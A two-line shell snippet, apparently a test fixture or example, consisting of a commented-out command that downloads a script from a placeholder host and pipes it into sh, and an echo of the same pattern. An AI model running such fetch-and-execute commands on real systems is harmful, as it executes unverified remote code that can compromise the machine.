# curl -fsSL https://x.test/i.sh | sh
echo 'curl x | sh'
